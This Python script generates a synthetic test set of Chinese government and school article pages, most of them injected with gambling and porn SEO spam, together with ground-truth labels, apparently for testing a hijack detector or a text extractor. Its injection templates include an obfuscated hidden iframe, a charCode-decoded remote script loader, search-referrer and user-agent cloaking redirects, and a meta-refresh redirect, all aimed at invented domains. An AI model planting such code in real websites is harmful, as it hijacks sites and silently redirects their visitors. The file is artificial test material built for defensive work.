"""make_set.py -- synthetic-v24: 40 gov/edu article pages (28 hijacked, 12 clean of which 4 legit).

Fixed seed, no clock, no network: a re-run writes byte-identical files.
Usage: python make_set.py [OUT_DIR]   (default: ../synthetic-v24 next to this folder)

Templates (none used by an earlier generator): A1 RuoYi-Vue portal (utf-8), A2 MIP-markup news site (utf-8),
A3 Odoo website blog (utf-8), A4 Bludit flat-file school site (GBK), A5 ShopXO-derived county portal with a
信息公开 metadata table (GB18030), A6 LikeAdmin front (utf-8).
Injection forms are modelled on real-cases-v24 (see FORMS below); brands and domains are invented and were checked
against every spam_strings entry of the dev, held-out and pending splits (no overlap).
"""
import html as H
import json
import os
import random
import sys

SEED = 24024
HERE = os.path.dirname(os.path.abspath(__file__))

BRANDS = ["沐星汇娱乐", "鎏金阁国际", "天麟博汇", "琥珀湾娱乐场", "曜石体育", "沧澜盈彩", "雀羽真人", "赤焰棋牌"]
DOMAINS = ["mx7731.vip", "lj-ge88.cc", "tlbh906.com", "hpwan.bet", "ys-tiyu.top", "cl58yc.net", "qyzr777.com", "chy-qp.vip"]
PORN = ["蜜桃传媒午夜剧场在线", "欧美激情久久精品免费看", "国产偷拍自拍视频网站", "日本高清无码中文字幕在线观看",
        "成人午夜影院免费入口", "久久精品人妻系列一区"]

PLACES = ["临川", "枫桥", "青岚", "白河", "云岭", "南屏", "石渠", "兰溪", "栖霞", "长汀", "鹤山", "望江"]
SURN = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾肖田董潘袁蔡蒋余于杜叶程魏苏吕丁任沈姚卢"
GIVEN = ["建国", "海燕", "志强", "丽华", "文斌", "晓东", "春梅", "国庆", "明辉", "雪琴", "振华", "秀英", "立新", "慧敏", "子涵", "宇航"]
UNITS = ["县政府办公室", "区教育局", "市卫生健康委员会", "县农业农村局", "区应急管理局", "学院党委宣传部", "教务处", "学生工作处", "县民政局", "市场监督管理局"]

EVENTS = [
 ("{p}{u}召开{y}年{t}工作部署会", ["{m}月{d}日上午,{p}{u}召开{y}年{t}工作部署会,总结上一阶段工作,研究部署下一步重点任务。{n1}出席会议并讲话,{n2}主持会议。",
   "会议听取了各科室关于{t}工作的情况汇报,分析了当前存在的短板和薄弱环节。与会人员围绕进一步做好{t}工作进行了交流发言,提出了具体意见建议。",
   "{n1}强调,要提高政治站位,压实工作责任,细化工作举措,确保{t}各项任务落地见效;要加强统筹协调,形成工作合力,以钉钉子精神抓好工作落实。",
   "会议还对近期安全生产、信访维稳等工作作了安排。"]),
 ("{p}开展{t}专题培训", ["为进一步提升干部职工业务能力,{m}月{d}日,{p}{u}组织开展{t}专题培训,全体干部职工共{k}余人参加培训。",
   "培训邀请{n2}作专题授课,围绕政策解读、业务流程、典型案例等内容进行了系统讲解,内容丰富、针对性强。",
   "{n1}在总结时要求,全体人员要把培训成果转化为推动工作的实际成效,切实提高服务群众的能力和水平。"]),
 ("{p}学院举办{y}年{t}活动", ["{m}月{d}日,{p}学院{y}年{t}活动在学术报告厅举行。学院党委书记{n1}、院长{n2}出席活动,{k}余名师生参加。",
   "活动中,各二级学院代表依次作交流发言,分享了在{t}方面的做法和经验。现场气氛热烈,师生互动积极。",
   "{n1}在讲话中指出,要坚持立德树人根本任务,把{t}作为育人工作的重要抓手,持续提升人才培养质量。",
   "本次活动由学生工作处、团委联合主办。"]),
]
TOPICS = ["安全生产", "营商环境优化", "乡村振兴", "防汛备汛", "食品安全", "校园文化建设", "就业创业指导", "基层党建", "森林防火", "消防安全"]

LEGIT = [
 ("{p}市{y}年度福利彩票公益金使用情况公告", ["根据《彩票管理条例》《彩票公益金管理办法》等有关规定,现将{p}市{y}年度福利彩票公益金使用情况公告如下。",
   "{y}年,市本级共收到福利彩票公益金{k}百万元,按照“扶老、助残、救孤、济困”的发行宗旨,重点用于养老服务设施建设、困境儿童保障和残疾人康复等项目。",
   "其中,资助城乡社区养老服务站建设项目十二个,资助儿童福利机构设施改造项目三个,资助残疾人康复服务项目五个。",
   "欢迎社会各界对福利彩票公益金的使用情况进行监督。"]),
 ("{p}县公安局集中开展打击赌博违法犯罪专项行动", ["{m}月{d}日,{p}县公安局召开会议,部署开展为期三个月的打击赌博违法犯罪专项行动。",
   "行动期间,全县公安机关将重点打击利用网络开设赌场、跨境赌博招赌吸赌、为赌博网站提供资金结算等违法犯罪活动,依法查处农村聚众赌博行为。",
   "县公安局提醒广大群众,网络赌博没有“稳赚不赔”,所谓的“内部消息”“包赢计划”都是诈骗陷阱。发现赌博违法犯罪线索,请及时拨打110报警。"]),
 ("体彩中心开展“理性购彩”进社区宣传活动", ["{m}月{d}日,{p}市体育彩票管理中心联合社区开展“理性购彩 快乐公益”宣传活动。",
   "工作人员通过发放宣传手册、现场讲解等方式,向居民介绍体育彩票公益金的用途,提醒居民量力而行、理性购彩,不购买来源不明的网络彩票。",
   "活动现场还设置了“未成年人不得购彩”宣传展板,吸引了不少居民驻足观看。"]),
 ("{p}市文旅局通报博彩广告专项整治情况", ["近日,{p}市文化广电旅游局通报全市网络博彩广告专项整治工作进展。",
   "专项整治开展以来,累计排查辖区网站、公众号{k}个,督促整改违规内容二十余条,对两家未履行审核义务的网站运营单位进行了约谈。",
   "下一步,市文旅局将会同网信、公安等部门,持续加强对网络博彩广告的监测和处置,维护清朗网络空间。"]),
]

FORMS = [
 # name, modelled_on (real-cases-v24 ids)
 ("traditional-mirror-pinyin-gloss", "rc24-001..004"),
 ("keyword-stuffed-porn-title", "rc24-005..008"),
 ("hex-array-hidden-iframe", "rc24-009"),
 ("sold-friend-links-block", "rc24-010"),
 ("js-appended-float-layer", "rc24-011"),
 ("ua-mobile-redirect-script", "rc24-012"),
 ("charcode-base64-decoder-loader", "rc24-013"),
 ("keyword-fetch-redirect-script", "rc24-014"),
 ("referrer-ua-cloaking-fullpage-iframe", "rc24-016"),
 ("geo-platform-cloaking-ad-loader", "rc24-017"),
 ("brand-substituted-name", "earlier public captures (brand for institution name)"),
 ("brand-credit-in-source", "earlier public captures (brand in byline/来源)"),
 ("meta-refresh-redirect", "meta refresh redirect idiom"),
 ("numbered-keyword-list-top", "keyword line/list above the article"),
]

GLOSS_MAP = {"動": "(dòng)", "網": "(wǎng)", "絡": "(luò)", "會": "(huì)", "開": "(kāi)", "專": "(zhuān)", "項": "(xiàng)", "發": "(fā)",
             "現": "(xiàn)", "關": "(guān)", "學": "(xué)", "時": "(shí)", "場": "(chǎng)", "強": "(qiáng)", "進": "(jìn)", "這": "(zhè)"}
S2T = str.maketrans("会开发现关学时场强进这动网络专项县区门组织级员资务监检执财经济农乡镇与为对实际还应设计证书记话说请单长问题东习传达带领导务讲训练级", "會開發現關學時場強進這動網絡專項縣區門組織級員資務監檢執財經濟農鄉鎮與為對實際還應設計證書記話說請單長問題東習傳達帶領導務講訓練級")


def esc(s):
    return H.escape(s, quote=False)


def name(r):
    return r.choice(SURN) + r.choice(GIVEN)


def fill(r, tmpl):
    y = r.choice([2022, 2023, 2024, 2025])
    m = r.randint(1, 12)
    d = r.randint(1, 28)
    ctx = dict(p=r.choice(PLACES), u=r.choice(UNITS), y=y, m=m, d=d, t=r.choice(TOPICS), n1=name(r), n2=name(r), k=r.randint(30, 480))
    title = tmpl[0].format(**ctx)
    paras = [s.format(**ctx) for s in tmpl[1]]
    return title, paras, "%04d-%02d-%02d" % (y, m, min(28, d + r.randint(0, 2))), ctx


# ---------------- injections: each returns dict(head, top, body_after, foot, title_prefix, masthead, spam, ...) ----------------
def inj(form, r, bi):
    brand, dom = BRANDS[bi % len(BRANDS)], DOMAINS[bi % len(DOMAINS)]
    o = dict(head="", top="", after="", foot="", title_override=None, masthead=None, spam=[], marker=None, source=None, brand_sub=None, gloss=False)
    if form == "keyword-stuffed-porn-title":
        ks = r.sample(PORN, 4)
        o["title_override"] = ",".join(ks)
        o["masthead"] = "_".join(ks)
        o["spam"] = [ks[0], ks[2]]
    elif form == "hex-array-hidden-iframe":
        url = "http://%s:81/ad.html" % dom
        hx = "".join("\\x%02x" % ord(c) for c in url)
        o["foot"] = "<script>var _$ = ['\\x69\\x66\\x72\\x61\\x6d\\x65', '%s'];\nvar a = document.createElement(_$[0]);a.src = _$[1];a.width = 0x0;a.height = 0x0;document.body.appendChild(a);</script>" % hx
        o["spam"] = [hx[:40]]
    elif form == "sold-friend-links-block":
        items = [brand + "官网", brand + "网址", "真人百家乐平台", "足球投注网站推荐", "正规网投平台"]
        o["foot"] = "<div class=\"yqlj\"><span>友情链接:</span>" + "".join('<a href="https://%s/%d" target="_blank">%s</a> ' % (dom, i, esc(t)) for i, t in enumerate(items)) + "</div>"
        o["spam"] = [brand + "官网", "真人百家乐平台"]
    elif form == "js-appended-float-layer":
        o["foot"] = ("<script>$(\"body\").append('<div class=\"fl_layer\"><div class=\"fl_title\">本站推荐</div><ul>' +\n"
                     "'<li><a href=\"https://%s/\">%s</a></li>' + '<li><a href=\"#\">首存送彩金</a></li>' + '<li><a href=\"#\">电子游艺</a></li>' +\n"
                     "'</ul></div>');\n$(document).ready(function(){ setTimeout(\"fl_pop()\", 4000); });</script>") % (dom, esc(brand))
        o["spam"] = [brand, "首存送彩金"]
    elif form == "ua-mobile-redirect-script":
        o["head"] = ("<script>\nfunction jump_m() {\n  var _m = navigator.userAgent.match(/(phone|pad|pod|iPhone|iPod|ios|iPad|Android|Mobile|UCBrowser|MQQBrowser)/i);\n"
                     "  if (_m && document.referrer) { window.location.replace(\"https://%s/m/?from=\" + location.host); }\n}\njump_m();\n</script>") % dom
        o["spam"] = [dom + "/m/?from="]
    elif form == "charcode-base64-decoder-loader":
        target = "document.write('<script src=https://%s/c.js><\\/script>')" % dom
        codes = ",".join(str(ord(c)) for c in target)
        o["after"] = ("<script>function XyQp(e){var t=\"\",n=0;while(n<e.length){t+=String.fromCharCode(e[n]);n++}return t}\n"
                      "(new Function(XyQp([%s])))();</script>") % codes
        o["spam"] = ["function XyQp(e)"]
    elif form == "keyword-fetch-redirect-script":
        o["head"] = ("<script>\nfetch('https://cdn.%s/kw/cn-keyword.json').then(function(r){return r.json()}).then(function(k){\n"
                     "  if (k.some(function(w){return document.referrer.indexOf(encodeURIComponent(w))>-1})) { window.location.href = 'https://%s/'; }\n});\n</script>") % (dom, dom)
        o["spam"] = ["cdn.%s/kw/cn-keyword.json" % dom]
    elif form == "referrer-ua-cloaking-fullpage-iframe":
        o["top"] = ("<script>\nvar pc_js=\"<iframe src='https://%s/' width=100%% height=7000px scrolling=no frameborder=0></iframe>\";\n"
                    "function fromse(){var re=/\\.(sogou|soso|baidu|so|sm|bing|360)(\\.[a-z0-9\\-]+){1,2}\\//ig;return re.test(document.referrer)?1:2;}\n"
                    "function ismob(){return /Android|iPhone|iPod|Windows Phone/i.test(navigator.userAgent)?1:2;}\n"
                    "if(ismob()==2&&fromse()==1){document.writeln(pc_js);}\n</script>") % dom
        o["spam"] = ["iframe src='https://%s/'" % dom]
    elif form == "geo-platform-cloaking-ad-loader":
        o["foot"] = ("<script>\n/* 地区判断 */\nvar _t_001=[\"<script src='https://ip.%s/ipquery'></script>\"];\n"
                     "var _t_002=[\"<script id='mob' charset='utf-8' src='https://kc.%s/x.php?pid=%d'></script>\"];\n"
                     "var p = navigator.platform;\nif(p.indexOf(\"Win\")==0||p.indexOf(\"Mac\")==0){}else{document.write(_t_001+_t_002);}\n</script>") % (dom, dom, r.randint(1000, 9999))
        o["spam"] = ["kc.%s/x.php" % dom]
    elif form == "brand-substituted-name":
        o["brand_sub"] = brand
        o["spam"] = [brand]
    elif form == "brand-credit-in-source":
        o["source"] = brand + "(" + dom + ")"
        o["spam"] = [brand]
    elif form == "meta-refresh-redirect":
        o["head"] = '<meta http-equiv="refresh" content="3;url=https://%s/?u=gov">' % dom
        o["top"] = '<noscript><a href="https://%s/">%s欢迎您</a></noscript>' % (dom, esc(brand))
        o["spam"] = ["%s欢迎您" % brand]
    elif form == "numbered-keyword-list-top":
        ks = r.sample(PORN, 3)
        o["top"] = "<div class=\"kwl\">" + "".join("<p>%d. %s</p>" % (i + 1, esc(k)) for i, k in enumerate(ks)) + "</div>"
        o["spam"] = [ks[0], ks[1]]
    elif form == "traditional-mirror-pinyin-gloss":
        o["gloss"] = True
        o["marker"] = "(wǎng)"
    return o


def gloss(s):
    out = []
    for ch in s:
        out.append(ch + GLOSS_MAP.get(ch, ""))
    return "".join(out)


# ---------------- templates ----------------
def meta_line(style, date, source, author, views):
    if style == 0:
        return "发布时间:%s  来源:%s  作者:%s  浏览次数:%d" % (date, source or "", author or "", views)
    if style == 1:
        return "【来源:%s】【作者:%s】【时间:%s】【点击:%d】" % (source or "", author or "", date, views)
    return "%s | %s | 阅读 %d" % (date, source or "", views)


def render(tpl, pg):
    t, h1, paras, date, src, au, views = pg["page_title"], pg["h1"], pg["paras_html"], pg["date"], pg["src_shown"], pg["author"], pg["views"]
    o = pg["inj"]
    charset = {"A4": "gbk", "A5": "gb18030"}.get(tpl, "utf-8")
    ml = esc(meta_line(pg["metastyle"], date, src, au, views))
    body = "".join("<p>%s</p>" % p for p in paras)
    mast = esc(o["masthead"] or pg["site_name"])
    if tpl == "A1":
        return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{esc(t)}</title>{o['head']}<link rel="stylesheet" href="/static/css/chunk-vendors.css"></head>
<body><div id="app" class="app-wrapper">{o['top']}<header class="navbar"><div class="logo">{mast}</div><ul class="el-menu"><li class="el-menu-item">首页</li><li class="el-menu-item">政务公开</li><li class="el-menu-item">办事服务</li></ul></header>
<main class="app-main"><div class="el-breadcrumb">首页 / 新闻动态 / 正文</div><div class="el-card article-detail"><h2 class="detail-title">{esc(h1)}</h2><div class="detail-info">{ml}</div>
<div class="detail-content ql-editor">{body}</div>{o['after']}</div></main><footer class="footer">主办单位:{esc(pg['site_name'])}</footer>{o['foot']}</div></body></html>
"""
    if tpl == "A2":
        return f"""<!DOCTYPE html><html mip><head><meta charset="utf-8"><title>{esc(t)}</title><link rel="stylesheet" href="https://c.mipcdn.com/static/v2/mip.css">{o['head']}</head>
<body>{o['top']}<mip-fixed type="top"><div class="mip-header">{mast}</div></mip-fixed><section class="mip-news"><h1 class="news-title">{esc(h1)}</h1><p class="news-meta">{ml}</p>
<div class="news-body">{body}<mip-img src="/uploads/img_{views}.jpg" layout="responsive" width="640" height="360"></mip-img></div>{o['after']}</section>
<div class="mip-footer">{esc(pg['site_name'])} 版权所有</div>{o['foot']}<script src="https://c.mipcdn.com/static/v2/mip.js"></script></body></html>
"""
    if tpl == "A3":
        return f"""<!DOCTYPE html><html lang="zh-CN" data-website-id="1"><head><meta charset="utf-8"/><title>{esc(t)} | {esc(pg['site_name'])}</title>{o['head']}</head>
<body><div id="wrapwrap">{o['top']}<header class="o_header_standard"><nav class="navbar"><a class="navbar-brand">{mast}</a></nav></header>
<main><section id="o_wblog_post_top"><div class="o_wblog_post_title"><h1 id="o_wblog_post_name" class="o_editable">{esc(h1)}</h1><div class="o_wblog_post_subtitle">{ml}</div></div></section>
<section id="o_wblog_post_main"><div class="o_wblog_post_content_field o_wblog_read_text">{body}</div>{o['after']}</section>
<section class="o_wblog_post_footer"><a href="/blog">返回列表</a></section></main><footer class="o_footer">© {esc(pg['site_name'])}</footer></div>{o['foot']}</body></html>
"""
    if tpl == "A4":
        return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk"><title>{esc(t)}</title>{o['head']}</head>
<body class="bludit">{o['top']}<div class="site-title"><h1>{mast}</h1></div><div class="nav"><a href="/">首页</a> <a href="/category/xxdt">学校动态</a></div>
<article class="post"><header><h2 class="title">{esc(h1)}</h2><div class="date">{ml}</div></header><div class="post-content">{body}</div>{o['after']}</article>
<aside class="sidebar"><h3>最新文章</h3><ul><li><a href="/p1">校园简讯</a></li></ul></aside><footer>Powered by Bludit | {esc(pg['site_name'])}</footer>{o['foot']}</body></html>
"""
    if tpl == "A5":
        table = ("<table class=\"xxgk\"><tr><th>索引号</th><td>%s</td><th>发布机构</th><td>%s</td></tr><tr><th>发文日期</th><td>%s</td><th>主题分类</th><td>综合政务</td></tr></table>"
                 % (pg["index_no"], esc(src or pg["site_name"]), date))
        return f"""<!DOCTYPE html><html><head><meta charset="gb18030"><title>{esc(t)}-{esc(pg['site_name'])}</title>{o['head']}</head>
<body>{o['top']}<div class="header"><div class="logo">{mast}</div></div><div class="position">您当前的位置:首页 &gt; 信息公开 &gt; 工作动态</div>
<div class="detail">{table}<h1 class="detail-title">{esc(h1)}</h1><div class="detail-attr">{ml}</div><div class="detail-content" id="zoom">{body}</div>{o['after']}</div>
<div class="footer">{esc(pg['site_name'])}主办 技术支持:ShopXO二次开发</div>{o['foot']}</body></html>
"""
    return f"""<!DOCTYPE html><html lang="zh"><head><meta charset="UTF-8"><title>{esc(t)}</title>{o['head']}</head>
<body><div class="la-layout">{o['top']}<div class="la-header"><span class="la-logo">{mast}</span></div><div class="la-main"><div class="news-detail"><div class="news-detail__title">{esc(h1)}</div>
<div class="news-detail__meta">{ml}</div><div class="news-detail__content">{body}</div>{o['after']}</div><div class="news-side"><div class="news-side__title">热门资讯</div></div></div>
<div class="la-footer">{esc(pg['site_name'])}</div></div>{o['foot']}</body></html>
"""


def main(out):
    r = random.Random(SEED)
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    tpls = ["A1", "A2", "A3", "A4", "A5", "A6"]
    plan = []
    for i, (form, _) in enumerate(FORMS):
        plan.append(("hij", form))
        plan.append(("hij", form))
    plan += [("clean", None)] * 8 + [("legit", None)] * 4
    r.shuffle(plan)
    rows = []
    for i, (kind, form) in enumerate(plan, 1):
        pid = "sv24-%03d" % i
        tpl = tpls[(i * 5) % 6]
        enc = {"A4": "gbk", "A5": "gb18030"}.get(tpl, "utf-8")
        if kind == "legit":
            title, paras, date, ctx = fill(r, LEGIT[i % len(LEGIT)])
        else:
            title, paras, date, ctx = fill(r, EVENTS[i % len(EVENTS)])
        source = r.choice(UNITS)
        author = name(r) if r.random() < 0.7 else None
        site_name = ctx["p"] + r.choice(["县人民政府", "职业技术学院", "区教育局", "师范学院", "市人民政府"])
        o = inj(form, r, i) if form else inj(None, r, i)
        if form and r.random() < 0.3 and form not in ("traditional-mirror-pinyin-gloss",):
            # a second, script-only form on some pages (third-party script include)
            dom2 = DOMAINS[(i + 3) % len(DOMAINS)]
            o["foot"] += '<script type="text/javascript" src="https://s3.%s/share/nsc.js"></script>' % dom2
            o["spam"] = o["spam"] + ["s3.%s/share/nsc.js" % dom2]
            forms = [form, "hijacked-third-party-script"]
        else:
            forms = [form] if form else []
        truth_paras = list(paras)
        shown = list(paras)
        h1 = title
        truth_title = title
        if o["brand_sub"]:
            inst = ctx["p"] + ctx["u"] if ctx["p"] + ctx["u"] in title else ctx["p"]
            h1 = title.replace(inst, o["brand_sub"], 1)
            shown[0] = shown[0].replace(inst, o["brand_sub"], 1)
            truth_paras[0] = shown[0].replace(o["brand_sub"], "")
            truth_title = None
        if o["gloss"]:
            shown = [gloss(p.translate(S2T)) for p in paras]
            truth_paras = [p.translate(S2T) for p in paras]
            h1 = gloss(title.translate(S2T))
            truth_title = title.translate(S2T)
        src_shown = o["source"] or source
        truth_source = None if o["source"] else source
        page_title = o["title_override"] or h1
        if o["title_override"]:
            pass  # headline stays real
        pg = dict(page_title=page_title, h1=h1, paras_html=[esc(p) for p in shown], date=date, src_shown=src_shown, author=author,
                  views=r.randint(30, 9000), metastyle=r.randint(0, 2), site_name=site_name, inj=o, index_no="%s-%04d-%03d" % (ctx["p"], ctx["y"], r.randint(1, 999)))
        doc = render(tpl, pg)
        data = doc.encode(enc)
        open(os.path.join(out, "html", pid + ".html"), "wb").write(data)
        lang = "zh-hant" if o["gloss"] else "zh"
        rows.append(dict(id=pid, url="https://www.%s.gov.cn/xwdt/%d/%s.html" % (["lc", "fq", "ql", "bh", "yl", "np", "sq", "lx", "qx", "ct", "hs", "wj"][PLACES.index(ctx["p"])] + "x" + str(i), ctx["y"], pid),
                         title=truth_title, date=date, source=truth_source, author=author, text="\n".join(truth_paras),
                         hijacked=kind == "hij", injections=forms, spam_strings=o["spam"], legit=kind == "legit", lang=lang,
                         origin="synthetic v24", kind="synthetic", site="gov/edu", capture="html", encoding=enc, template=tpl,
                         marker=o["marker"]))
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(len(rows), "pages")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v24"))
